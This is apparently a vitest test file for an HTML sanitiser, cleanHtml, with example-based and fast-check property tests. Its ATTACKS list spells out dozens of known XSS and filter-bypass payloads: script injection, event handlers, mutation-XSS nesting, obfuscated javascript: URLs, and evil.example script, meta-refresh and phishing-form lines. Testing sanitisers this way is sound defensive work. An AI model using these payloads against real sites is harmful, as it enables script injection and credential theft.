import fc from 'fast-check'
import { expect, test } from 'vitest'
import { cleanHtml } from './clean-html.ts'

test('paragraphs, headings, lists, emphasis and links stay as they were written', () => {
  const text =
    '<h2>Returns</h2><p>We <strong>refund</strong> what was <em>wrong</em>.<br />Ring <a href="tel:+441274000000">us</a>.</p>' +
    '<ul><li><p>cold</p></li><li><p>late</p></li></ul><ol><li>one</li></ol><blockquote><p>£5 &lt; £6 &amp; so on</p></blockquote>' +
    '<p><a href="https://example.com/a?b=1&amp;c=2">out</a> <a href="/contact-us">in</a> <a href="mailto:a@b.example">mail</a></p>'
  expect(cleanHtml(text)).toBe(text)
})

test('other headings and marks become those that pages have', () => {
  expect(cleanHtml('<h1>One</h1><h5>Five</h5><p><b>b</b><i>i</i><u>u</u></p>')).toBe(
    '<h2>One</h2><h3>Five</h3><p><strong>b</strong><em>i</em>u</p>',
  )
})

// Known attacks on HTML filters, which browsers have executed.
const ATTACKS = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/src=//evil.example></script>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)//',
  '<svg onload=alert(1)>',
  '<svg><p><style><img src=x onerror=alert(1)></style>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p title="</p><script>alert(1)</script>">x',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<style>body{display:none}</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example)">over all</p>',
  '<p onclick="alert(1)" onmouseover=alert(1) id="root" class="dialog" data-x="1">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://x.example" ping="https://evil.example" target="_top" download>x</a>',
  '<a xlink:href="javascript:alert(1)" href="#">x</a>',
]

/** The only forms that a tag may have in the result. */
const HARMLESS =
  /^<\/?(?:p|div|h2|h3|ul|ol|li|strong|em|blockquote|a)>$|^<br \/>$|^<a href="(?:https?:|mailto:|tel:|\/(?!\/)|#|\?|[^":]*")[^"<>]*"?>$/

test.each(ATTACKS)('nothing of %s runs, loads or hides', attack => {
  expect(strangeTags(cleanHtml(attack))).toEqual([])
  expect(strangeTags(cleanHtml(`<p>before${attack}after</p>`))).toEqual([])
})

test('whatever is written, only harmless tags are left, and cleaning once more changes nothing', () => {
  const piece = fc.oneof(
    fc.constantFrom(
      ...ATTACKS,
      '<p>',
      '</p>',
      '<div>',
      '</div>',
      '<li>',
      '<ul>',
      '</ul>',
      '<b>',
      '<h1>',
      '</h1>',
    ),
    fc.constantFrom('<', '>', '"', "'", '&', '&lt;', '&quot;', '<!--', '-->', '/', '=', '\0', '\n', 'a'),
    fc.string(),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), pieces => {
      const clean = cleanHtml(pieces.join(''))
      expect(strangeTags(clean)).toEqual([])
      expect(cleanHtml(clean)).toBe(clean)
    }),
    { numRuns: 500 },
  )
})

test('text without a word is no text', () => {
  for (const empty of [
    '',
    ' \n ',
    '<p></p>',
    '<p><br></p><p>&nbsp;</p>',
    '<script>a</script>',
    '<img src="a.png">',
  ])
    expect(cleanHtml(empty)).toBe('')
})

test('a tag within a tag a thousand times becomes shallow, and no word of it is lost', () => {
  const clean = cleanHtml(`${'<div>'.repeat(1000)}deep${'</div>'.repeat(1000)}`)
  expect(clean).toContain('deep')
  expect(clean.split('<div>').length).toBeLessThan(20)
})

function strangeTags(html: string): string[] {
  return (html.match(/<[^>]*>?/g) ?? []).filter(tag => !HARMLESS.test(tag))
}
